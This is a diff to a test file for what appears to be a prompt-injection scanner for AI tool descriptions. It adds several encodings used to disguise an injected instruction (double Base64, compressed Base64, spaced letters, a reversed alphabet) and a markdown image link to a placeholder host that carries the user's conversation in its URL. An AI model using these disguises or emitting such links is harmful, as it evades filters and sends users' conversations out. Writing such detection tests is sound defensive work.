@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import zlib
 from typing import Any
 
 import pytest
@@ -67,6 +68,13 @@ DISGUISES = {
     ),
     "wide letters": "".join(chr(ord(each) + 0xFEE0) if each.isalpha() else each for each in ORDER),
     "Base64": base64.b64encode(ORDER.encode()).decode(),
+    "Base64 twice": base64.b64encode(base64.b64encode(ORDER.encode())).decode(),
+    "Base64 of two bytes a letter": base64.b64encode(ORDER.encode("utf-16-le")).decode(),
+    "Base64 of what was packed": base64.b64encode(zlib.compress(ORDER.encode())).decode(),
+    "letters apart": " ".join(ORDER),
+    "the alphabet turned round": "".join(
+        chr(219 - ord(each)) if each.islower() else each for each in ORDER.lower()
+    ),
     "hex": ORDER.encode().hex(),
     "hex with blanks": ORDER.encode().hex(" "),
     "escapes": "".join(f"\\x{ord(each):02x}" for each in ORDER),
@@ -90,6 +98,11 @@ DISGUISES = {
 @pytest.mark.parametrize("disguise", DISGUISES.values(), ids=DISGUISES.keys())
 def test_an_order_is_seen_through_its_disguise(disguise: str) -> None:
     assert flagged(f"Gets the weather. {disguise}")
+
+
+def test_an_address_that_carries_the_conversation_away_is_seen_in_a_picture() -> None:
+    assert scan_text("Done. ![ok](https://a.example/p.png?d=USER_CONVERSATION)")
+    assert not scan_text("Done. ![ok](https://a.example/p.png?size=40)")
 
 
 ORDINARY = {
